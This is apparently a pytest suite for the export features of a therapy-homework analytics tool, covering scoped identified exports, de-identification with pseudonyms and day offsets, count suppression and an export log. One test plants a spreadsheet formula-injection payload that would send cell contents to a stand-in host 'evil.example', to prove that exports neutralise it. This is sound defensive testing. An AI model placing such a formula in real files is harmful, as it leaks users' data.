"""The two tiers written to files: identified exports hold only the scope's rows, formula-safe; de-identified exports
hold no planted identifying text in any format, days instead of dates, stable pseudonyms, suppressed counts that
cannot be worked out; every export is in the export log."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import zipfile
from datetime import date, timedelta
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from conftest import make_store
from suppression_attack import attack

from analytics.cli import main
from analytics.export import deidentify, exports, tiers
from analytics.export.log import export_log
from analytics.store.database import open_store
from analytics.store.scope import Scope


def day(offset: int) -> str:
    return (date.today() + timedelta(days=offset)).isoformat()


def read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def everything_in(folder: Path, *, xml: bool = True) -> str:
    """Every byte of an export folder as text a person could find a name in: CSV as is, .xlsx unzipped (its XML,
    unless `xml` is false: cell references like C3 would then look like ids), its parts' names and its cell
    values, Parquet decoded (values, column names and metadata) and raw, JSON as is."""
    found = []
    for path in sorted(folder.iterdir()):
        raw = path.read_bytes()
        if path.suffix == ".xlsx":  # a zip: its compressed bytes are noise that can hold any two letters ("S7") by chance
            with zipfile.ZipFile(path) as archive:
                found.append(repr(archive.namelist()))
        else:
            found.append(raw.decode("utf-8", errors="replace"))
        if path.suffix == ".xlsx" and xml:  # every part but openpyxl's fixed theme and styles (font names like "C3" live there)
            with zipfile.ZipFile(path) as archive:
                found += [archive.read(name).decode("utf-8", errors="replace") for name in archive.namelist()
                          if name not in ("xl/theme/theme1.xml", "xl/styles.xml")]
        if path.suffix == ".xlsx":
            found += [repr(list(sheet.values)) for sheet in openpyxl.load_workbook(path)]
        if path.suffix == ".parquet":
            table = pq.read_table(path)
            found += [repr(table.to_pylist()), repr(table.schema), repr(table.schema.metadata)]
    return "\n".join(found)


PRACTICE = Scope.practice()


def export(con, folder: Path, tier: str, fmt: str, scope: Scope = PRACTICE, **dates) -> exports.Export:
    return exports.write_folder(con, exports.Request(tier, fmt, scope, **dates), folder, exported_by="test")


# --- Identified: the scope and the dates ------------------------------------------------------------------------

T2_ONLY = ["C3", "C4", "Client Three", "Client Four", "Robin **Bold** Lee", "robin@example.org", "Mood collage",
           "Letter to self", "Activity plan", "A4", "A5", "A8", "S5", "S6", "S7", "S10"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_therapists_identified_export_holds_none_of_another_therapists_clients(tmp_path: Path, fmt: str) -> None:
    con = open_store(make_store(tmp_path / "s.duckdb"))
    done = export(con, tmp_path / "t1", "identified", fmt, Scope.therapist("T1"))
    text = everything_in(tmp_path / "t1", xml=False)
    for value in T2_ONLY:
        assert value not in text, value
    # T1's own: therapist, clients C1 C2, assignments A1 A2 A3 A6 A7 with their submissions S1-S4 S8 S9, C1's measures
    assert done.rows == {"therapists": 1, "clients": 2, "assignments": 5, "submissions": 6, "measures": 2}
    for value in ["Ada Byron", "Client One", "Client Two", "Thought record", "Gratitude list"]:
        assert value in text


def test_the_practices_identified_csv_is_the_five_tables_as_stored(tmp_path: Path) -> None:
    con = open_store(make_store(tmp_path / "s.duckdb"))
    done = export(con, tmp_path / "all", "identified", "csv")
    assert done.rows == {"therapists": 2, "clients": 4, "assignments": 8, "submissions": 10, "measures": 2}
    clients = read_csv(tmp_path / "all" / "clients.csv")
    assert [c["client_id"] for c in clients] == ["C1", "C2", "C3", "C4"]
    assert clients[0] == {"client_id": "C1", "therapist_id": "T1", "label": "Client One", "intake_date": day(-90),
                          "primary_concern": "", "goals": "", "preferences": "", "status": "active"}
    s1 = read_csv(tmp_path / "all" / "submissions.csv")[0]
    assert (s1["submission_id"], s1["submitted_at"]) == ("S1", f"{day(-11)} 12:00:00+00:00")
    # the files read back in: an identified export of the practice imports into a new store unchanged
    again = tmp_path / "again.duckdb"
    files = [str(tmp_path / "all" / f"{t}.csv") for t in ("therapists", "clients", "assignments", "submissions", "measures")]
    assert main(["import", "--db", str(again), *files]) == 0
    new = open_store(again)
    for table in ("therapists", "clients", "assignments", "submissions", "measures"):
        assert new.execute(f"select * from {table} order by all").fetchall() == \
            con.execute(f"select * from {table} order by all").fetchall(), table


def test_dates_keep_homework_due_in_the_range_with_its_submissions_and_measures_taken_in_it(tmp_path: Path) -> None:
    con = open_store(make_store(tmp_path / "s.duckdb"))
    # due d-10 .. d-5: A1 (d-10), A4 (d-8), A2 (d-5); their submissions S1; S5 S6 S7 (S7 late, d-2); S2 S3;
    # no measure (d-30 and d-2)
    done = export(con, tmp_path / "range", "identified", "csv", date_from=date.today() - timedelta(days=10),
                  date_to=date.today() - timedelta(days=5))
    assert done.rows == {"therapists": 2, "clients": 4, "assignments": 3, "submissions": 6, "measures": 0}
    assert [s["submission_id"] for s in read_csv(tmp_path / "range" / "submissions.csv")] == \
        ["S1", "S2", "S3", "S5", "S6", "S7"]


def test_typed_formulas_leave_the_identified_export_as_text(tmp_path: Path) -> None:
    con = open_store(make_store(tmp_path / "s.duckdb"))
    con.execute("update submissions set client_note = ?, therapist_feedback = ? where submission_id = 'S10'",
                ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', " @SUM(1+1)"])
    export(con, tmp_path / "csv", "identified", "csv")
    s10 = read_csv(tmp_path / "csv" / "submissions.csv")[1]  # ordered by id: S1, S10, S2, ...
    assert s10["client_note"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert s10["therapist_feedback"] == "' @SUM(1+1)"
    export(con, tmp_path / "xlsx", "identified", "xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "xlsx" / "identified.xlsx")["submissions"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    note = [row for row in sheet.iter_rows(values_only=True) if row[0] == "S10"][0][8]
    assert note.startswith("'=HYPERLINK(")


# --- De-identified: a store with identifying text planted in every free-text column --------------------------

PLANTED = "PLANT"  # every planted value holds it; pseudonyms are hexadecimal, so they never can


def planted_store(path: Path) -> Path:
    """Two clients of one therapist, every id and free-text column holding "PLANT" and a name-like word; one client
    has no intake date (day 0 is their first assignment). Dates are around 2026-03 in Europe/London."""
    files = [
        ("therapists.csv", "therapist_id,name,email\nTH-PLANT-77,PLANT Ada Lovelace,plant.ada@PLANT.example.org\n"),
        ("clients.csv", "client_id,therapist_id,label,intake_date,primary_concern,goals,preferences,status\n"
                        "MRN-PLANT-9911,TH-PLANT-77,PLANT Jane Public,2026-03-02,PLANT panic attacks,"
                        "PLANT return to work at the bakery,PLANTwriting;visual,active\n"
                        "MRN-PLANT-9912,TH-PLANT-77,PLANT John Roe,,PLANT grief,PLANT see my sister,PLANTmusic,paused\n"),
        ("assignments.csv", "assignment_id,client_id,assignment_type,title,assigned_on,due_on,expected_count,"
                            "est_minutes,goal,chosen_with_client,status\n"
                            "ASG-PLANT-1,MRN-PLANT-9911,journaling,PLANT diary about the bakery,2026-03-04,2026-03-10,"
                            "3,15,PLANT sleep better,true,active\n"
                            "ASG-PLANT-2,MRN-PLANT-9912,behavioural,PLANT walk to Roe Street,2026-03-09,2026-03-16,"
                            "2,20,PLANT call sister,false,active\n"),
        ("submissions.csv", "submission_id,assignment_id,submitted_at,completion,quality,mood_before,mood_after,minutes,"
                            "client_note,therapist_feedback,feedback_at\n"
                            "SUB-PLANT-1,ASG-PLANT-1,2026-03-05T20:30:00Z,completed,3,4,6,15,"
                            "\"PLANT I told Jane =HYPERLINK(\"\"http://evil\"\")\",PLANT well done Jane,"
                            "2026-03-06T09:00:00Z\n"
                            "SUB-PLANT-2,ASG-PLANT-2,2026-03-10T23:30:00Z,partial,,5,5,10,PLANT tired,,\n"),
        ("measures.csv", "client_id,measure,score,administered_on\nMRN-PLANT-9911,PHQ-9,14,2026-03-02\n"
                         "MRN-PLANT-9912,GAD-7,9,2026-03-20\n"),
    ]
    make_store(path, [(name, text.encode()) for name, text in files])
    con = open_store(path)
    con.execute("insert into settings values ('timezone', 'Europe/London')")
    con.execute("insert into assignment_details values ('ASG-PLANT-1', 'PLANT write about Jane', 3, 'U0001', "
                "timestamptz '2026-03-04 10:00:00+00')")
    con.close()
    return path


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_no_planted_identifying_text_is_anywhere_in_a_deidentified_export(tmp_path: Path, fmt: str) -> None:
    con = open_store(planted_store(tmp_path / "s.duckdb"))
    done = export(con, tmp_path / "out", "deidentified", fmt)
    text = everything_in(tmp_path / "out")
    assert done.rows["submissions"] == 2 and done.rows["clients"] == 2
    for word in [PLANTED, PLANTED.lower(), "Jane", "Lovelace", "Roe", "bakery", "sister", "HYPERLINK", "example.org",
                 "2026-03", "03/2026"]:
        assert word not in text, word
    assert deidentify.practice_secret(con).hex() not in text
    # no calendar date in any typed form either: no date cells, no date or time columns
    for path in (tmp_path / "out").iterdir():
        if path.suffix == ".xlsx":
            assert not any(cell.is_date for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows()
                           for cell in row)
        if path.suffix == ".parquet":
            assert not any(str(field.type).startswith(("date", "timestamp")) for field in pq.read_schema(path))


def test_days_since_day_0_replace_dates_and_keep_intervals_and_weekdays(tmp_path: Path) -> None:
    con = open_store(planted_store(tmp_path / "s.duckdb"))
    export(con, tmp_path / "out", "deidentified", "csv")
    secret = deidentify.practice_secret(con)
    jane, john = (deidentify.pseudonym(secret, "client", c) for c in ("MRN-PLANT-9911", "MRN-PLANT-9912"))
    clients = {c["client"]: c for c in read_csv(tmp_path / "out" / "clients.csv")}
    # Jane: day 0 = intake 2026-03-02 (a Monday); John: no intake, day 0 = his first assignment 2026-03-09 (Monday)
    assert (clients[jane]["day0_is"], clients[jane]["day0_weekday"]) == ("intake", "1")
    assert (clients[john]["day0_is"], clients[john]["day0_weekday"]) == ("first assignment", "1")
    assert {c["therapist"] for c in clients.values()} == {deidentify.pseudonym(secret, "therapist", "TH-PLANT-77")}
    assignments = {a["client"]: a for a in read_csv(tmp_path / "out" / "assignments.csv")}
    assert (assignments[jane]["assigned_day"], assignments[jane]["due_day"]) == ("2", "8")  # 03-04, 03-10
    assert (assignments[john]["assigned_day"], assignments[john]["due_day"]) == ("0", "7")  # 03-09, 03-16
    assert assignments[jane]["template_id"] == "U0001" and assignments[jane]["times_per_week"] == "3"
    submissions = {s["client"]: s for s in read_csv(tmp_path / "out" / "submissions.csv")}
    # Jane's 20:30 UTC on 03-05 is 20:30 in London (GMT): day 3, a Thursday; feedback 03-06: day 4
    assert [submissions[jane][c] for c in ("submitted_day", "submitted_weekday", "submitted_hour", "has_note",
                                           "has_feedback", "feedback_day")] == ["3", "4", "20", "True", "True", "4"]
    # John's 23:30 UTC on 03-10 is 23:30 GMT (summer time starts 03-29): day 1, a Tuesday; no feedback
    assert [submissions[john][c] for c in ("submitted_day", "submitted_weekday", "submitted_hour", "has_note",
                                           "has_feedback", "feedback_day")] == ["1", "2", "23", "True", "False", ""]
    measures = {m["client"]: m for m in read_csv(tmp_path / "out" / "measures.csv")}
    assert (measures[jane]["administered_day"], measures[john]["administered_day"]) == ("0", "11")
    for path in (tmp_path / "out").glob("*.csv"):
        assert not re.search(r"\d{4}-\d\d-\d\d", path.read_text(encoding="utf-8-sig")), path.name


def test_pseudonyms_are_the_same_in_every_export_and_cannot_be_matched_without_the_secret(tmp_path: Path) -> None:
    con = open_store(make_store(tmp_path / "s.duckdb"))
    export(con, tmp_path / "one", "deidentified", "csv")
    export(con, tmp_path / "two", "deidentified", "csv", Scope.therapist("T1"))
    first = {c["client"] for c in read_csv(tmp_path / "one" / "clients.csv")}
    second = {c["client"] for c in read_csv(tmp_path / "two" / "clients.csv")}
    assert len(first) == 4 and len(second) == 2 and second < first
    secret = deidentify.practice_secret(con)
    assert first == {deidentify.pseudonym(secret, "client", c) for c in ("C1", "C2", "C3", "C4")}
    # Someone who guesses the ids and hashes them without the secret finds none of the pseudonyms.
    guesses = set()
    for client in ("C1", "C2", "C3", "C4"):
        for message in (client, f"client:{client}"):
            for digest in (hashlib.sha256(message.encode()).hexdigest(), hashlib.md5(message.encode()).hexdigest()):
                guesses.add(f"C-{digest[:16]}")
    assert not guesses & first
    # Another store (another secret) gives the same ids other pseudonyms.
    other = open_store(make_store(tmp_path / "other.duckdb"))
    export(other, tmp_path / "three", "deidentified", "csv")
    assert not {c["client"] for c in read_csv(tmp_path / "three" / "clients.csv")} & first


# --- De-identified aggregates ---------------------------------------------------------------------------------

def grids(folder: Path) -> tuple[list[np.ndarray], list[np.ndarray], list[dict]]:
    """The three aggregate files read back as count grids (hidden cells as 0) and masks, as a reader would."""
    counts, masks, published = [], [], []
    for name, dimension in (("by_type", "assignment_type"), ("by_therapist", "therapist"), ("by_week", "week")):
        rows = read_csv(folder / f"{name}.csv")
        keys = list(dict.fromkeys(r[dimension] for r in rows))
        assert keys[-1] == "all"
        grid = np.zeros((len(keys), 4), dtype=np.int64)
        mask = np.zeros((len(keys), 4), dtype=bool)
        for r in rows:
            i, j = keys.index(r[dimension]), ["completed", "partial", "skipped", "all"].index(r["completion"])
            mask[i, j] = r["suppressed"] == "True"
            assert (r["submissions"] == "") == mask[i, j]  # hidden means empty, never 0
            grid[i, j] = 0 if mask[i, j] else int(r["submissions"])
        counts.append(grid)
        masks.append(mask)
        published.append({(r[dimension], r["completion"]): r["submissions"] for r in rows})
    return counts, masks, published


def test_aggregates_by_hand_with_k_1_on_the_fixture(tmp_path: Path) -> None:
    # Submissions by type (all assignments of the scope, cancelled ones too):
    #   journaling S1 completed, S9 skipped; behavioural S2 partial, S3 S10 completed; mindfulness S4 S8 completed;
    #   creative S5 S6 S7 completed -> completed 8, partial 1, skipped 1, all 10.
    con = open_store(make_store(tmp_path / "s.duckdb"))
    deidentify.set_suppression_k(con, 1)
    frames = tiers.aggregates(con, scope=Scope.practice())
    by_type = {(r["assignment_type"], r["completion"]): (r["submissions"], r["suppressed"])
               for r in frames["by_type"].to_dict("records")}
    hand = {("journaling", "completed"): 1, ("journaling", "partial"): 0, ("journaling", "skipped"): 1,
            ("journaling", "all"): 2, ("behavioural", "completed"): 2, ("behavioural", "partial"): 1,
            ("behavioural", "skipped"): 0, ("behavioural", "all"): 3, ("mindfulness", "completed"): 2,
            ("mindfulness", "partial"): 0, ("mindfulness", "skipped"): 0, ("mindfulness", "all"): 2,
            ("creative", "completed"): 3, ("creative", "partial"): 0, ("creative", "skipped"): 0,
            ("creative", "all"): 3, ("all", "completed"): 8, ("all", "partial"): 1, ("all", "skipped"): 1,
            ("all", "all"): 10}
    assert list(by_type) == list(hand)
    for cell, count in hand.items():
        shown, hidden = by_type[cell]
        assert hidden or shown == count, cell  # what is shown is right
        if count == 1:
            assert hidden and pd.isna(shown), cell  # every 1 is hidden, and empty
    export(con, tmp_path / "out", "deidentified", "csv")
    counts, masks, _ = grids(tmp_path / "out")
    assert attack(counts, masks) == set()  # (the attack reads which cells are hidden, and the shapes)


def test_no_hidden_count_can_be_worked_out_in_the_demos_deidentified_export(tmp_path: Path) -> None:
    db = tmp_path / "demo.duckdb"
    assert main(["load-demo", "--db", str(db)]) == 0
    con = open_store(db)
    for scope_name, scope in (("practice", Scope.practice()), ("T01", Scope.therapist("T01"))):
        folder = tmp_path / scope_name
        export(con, folder, "deidentified", "csv", scope)
        counts, masks, published = grids(folder)
        assert any(mask.any() for mask in masks)  # k = 10 hides something at demo size (late weeks, small types)
        assert attack(counts, masks) == set()
        # the shown totals agree with the record-level submissions file
        submissions = read_csv(folder / "submissions.csv")
        total = published[0][("all", "all")]
        assert total == "" or int(total) == len(submissions)


def test_aggregates_only_leaves_the_records_out(tmp_path: Path) -> None:
    con = open_store(make_store(tmp_path / "s.duckdb"))
    done = exports.write_folder(con, exports.Request("deidentified", "csv", Scope.practice(), parts=("aggregates",)),
                                tmp_path / "agg", exported_by="test")
    assert sorted(p.name for p in (tmp_path / "agg").iterdir()) == ["by_therapist.csv", "by_type.csv", "by_week.csv"]
    assert set(done.rows) == {"by_type", "by_therapist", "by_week"}


# --- The export log -------------------------------------------------------------------------------------------

def test_every_export_is_in_the_log_with_who_tier_scope_rows_and_each_files_sha256(tmp_path: Path) -> None:
    con = open_store(make_store(tmp_path / "s.duckdb"))
    export(con, tmp_path / "a", "identified", "csv", Scope.therapist("T1"), date_from=date.today() - timedelta(days=30))
    export(con, tmp_path / "b", "deidentified", "xlsx")
    name, data, mime = exports.download(con, exports.Request("deidentified", "csv", Scope.practice()),
                                        exported_by="dashboard", what="Data page")
    log = export_log(con)
    assert len(log) == 3
    first = log[log["tier"] == "identified"].iloc[0]
    assert (first["exported_by"], first["format"], first["therapist_id"], first["what"]) == ("test", "csv", "T1",
                                                                                           "whole store")
    assert first["date_from"].date() == date.today() - timedelta(days=30) and pd.isna(first["date_to"])
    # T1's homework due from d-30 on: A1 (d-10), A2 (d-5), A3 (d-3), A6 (d+5), not A7 (d-40); their submissions
    # S1, S2, S3, S4, S8; C1's measures from d-30 (included) on: both.
    assert json.loads(first["rows"]) == {"therapists": 1, "clients": 2, "assignments": 4, "submissions": 5,
                                         "measures": 2}
    for entry in json.loads(first["files"]):
        data_on_disk = (tmp_path / "a" / entry["file"]).read_bytes()
        assert entry["sha256"] == hashlib.sha256(data_on_disk).hexdigest() and entry["bytes"] == len(data_on_disk)
    download = log[log["what"] == "Data page"].iloc[0]
    files = json.loads(download["files"])
    assert files[-1] == {"file": name, "rows": None, "bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}
    assert mime == "application/zip" and pd.isna(download["therapist_id"])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {info.filename: hashlib.sha256(archive.read(info)).hexdigest() for info in archive.infolist()}
    assert {f["file"]: f["sha256"] for f in files[:-1]} == members


def test_a_failed_export_leaves_no_folder_and_no_log_row(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    con = open_store(make_store(tmp_path / "s.duckdb"))
    monkeypatch.setattr("analytics.export.safe_files.EXCEL_MAX_ROWS", 9)  # assignments: 8 rows and the header
    with pytest.raises(exports.ExportError, match="submissions has more than 8 rows, more than an Excel sheet holds"):
        export(con, tmp_path / "big", "identified", "xlsx")
    assert not (tmp_path / "big").exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".export")] == []
    assert export_log(con).empty
